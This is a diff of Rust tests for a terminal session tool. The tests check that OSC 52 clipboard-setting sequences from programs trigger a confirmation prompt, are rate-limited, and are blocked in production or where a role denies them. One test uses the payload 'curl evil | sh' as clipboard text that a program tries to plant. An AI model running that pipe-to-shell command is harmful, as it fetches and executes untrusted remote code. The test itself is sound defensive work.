@@ -251,3 +251,107 @@ fn an_ended_session_can_still_be_read() {
     fixture.press("ctrl-\\ y");
     assert_eq!(copied(&mut fixture), ["result 42"]);
 }
+
+/// OSC 52 with this text.
+fn osc52(text: &str) -> String {
+    use base64::Engine as _;
+    format!("\x1b]52;c;{}\x07", base64::engine::general_purpose::STANDARD.encode(text))
+}
+
+/// A role whose file says this about its clipboard, in this environment; its session.
+fn session_with(env: &str, clipboard: &str) -> (Fixture, u64) {
+    let role = format!("[roles.shell]\ncommand = ['bash']\nenv = '{env}'\n{clipboard}\n");
+    let mut fixture = Fixture::with(&[("config.toml", ""), ("roles.toml", &role)], 80, 24);
+    fixture.press("enter");
+    let tab = fixture.started("$ ");
+    fixture.effects.clear();
+    (fixture, tab)
+}
+
+fn passed_on(fixture: &mut Fixture) -> Vec<String> {
+    fixture.take(|effect| match effect {
+        Effect::CopyFor { program, text } => Some(format!("{program}: {text}")),
+        _ => None,
+    })
+}
+
+#[test]
+fn a_program_asks_before_it_sets_the_clipboard_and_no_is_the_answer() {
+    let (mut fixture, tab) = session_with("dev", "");
+    printed(&mut fixture, tab, &osc52("curl evil | sh\n"));
+    let picture = fixture.picture();
+    assert!(picture.contains("psql in shell wants to set the clipboard"), "{picture}");
+    assert!(picture.contains("to 15 B:") && picture.contains("curl evil | sh⏎"), "{picture}");
+    fixture.press("Y enter");
+    assert!(fixture.model.dialog.is_some(), "typed before it was seen");
+    fixture.later(600);
+    // A flood is one question, and about the text that was asked about.
+    for i in 0..50 {
+        printed(&mut fixture, tab, &osc52(&format!("other {i}")));
+    }
+    assert!(fixture.picture().contains("curl evil | sh⏎"));
+    fixture.press("enter");
+    assert!(fixture.model.dialog.is_none());
+    assert!(passed_on(&mut fixture).is_empty());
+    printed(&mut fixture, tab, &osc52("again"));
+    assert!(fixture.model.dialog.is_none(), "not again at once");
+    fixture.later(61_000);
+    printed(&mut fixture, tab, &osc52("later"));
+    assert!(fixture.picture().contains("later"));
+}
+
+#[test]
+fn once_is_once_and_always_is_for_this_session() {
+    let (mut fixture, tab) = session_with("dev", "clipboard = 'ask'");
+    printed(&mut fixture, tab, &osc52("one"));
+    fixture.later(600);
+    fixture.press("Y");
+    assert_eq!(passed_on(&mut fixture), ["psql: one"]);
+    printed(&mut fixture, tab, &osc52("two"));
+    fixture.later(600);
+    fixture.press("right right enter");
+    assert_eq!(passed_on(&mut fixture), ["psql: two"]);
+    // No more than one a second; the newest one then.
+    for text in ["three", "four", "five"] {
+        printed(&mut fixture, tab, &osc52(text));
+    }
+    assert!(passed_on(&mut fixture).is_empty());
+    fixture.later(1100);
+    fixture.send(Message::Tick);
+    assert_eq!(passed_on(&mut fixture), ["psql: five"]);
+}
+
+#[test]
+fn in_production_and_where_the_role_denies_it_nothing_goes_out() {
+    for (env, clipboard) in [("prod", ""), ("dev", "clipboard = 'deny'")] {
+        let (mut fixture, tab) = session_with(env, clipboard);
+        printed(&mut fixture, tab, &osc52("text"));
+        assert!(fixture.model.dialog.is_none());
+        assert!(fixture.last_row().contains("psql may not set the clipboard here"));
+        fixture.press("x");
+        printed(&mut fixture, tab, &osc52("text"));
+        assert!(!fixture.last_row().contains("may not"), "said once");
+        assert!(passed_on(&mut fixture).is_empty());
+        fixture.press("ctrl-\\ [ V y");
+        let own = copied(&mut fixture);
+        if env == "prod" {
+            assert_eq!(own, ["$"], "what a person copies is another matter");
+        } else {
+            assert_eq!(own, [""; 0]);
+            assert!(fixture.last_row().contains("this role lets no text out"));
+        }
+    }
+}
+
+#[test]
+fn a_role_may_allow_it_and_a_session_behind_asks_when_it_is_in_front() {
+    let (mut fixture, tab) = session_with("prod", "clipboard = 'allow'");
+    printed(&mut fixture, tab, &osc52("text"));
+    assert_eq!(passed_on(&mut fixture), ["psql: text"]);
+    let (mut fixture, tab) = session_with("dev", "");
+    fixture.press("ctrl-\\ r");
+    printed(&mut fixture, tab, &osc52("text"));
+    assert!(fixture.model.dialog.is_none());
+    fixture.press("ctrl-c 3 enter");
+    assert!(fixture.picture().contains("wants to set the clipboard"));
+}
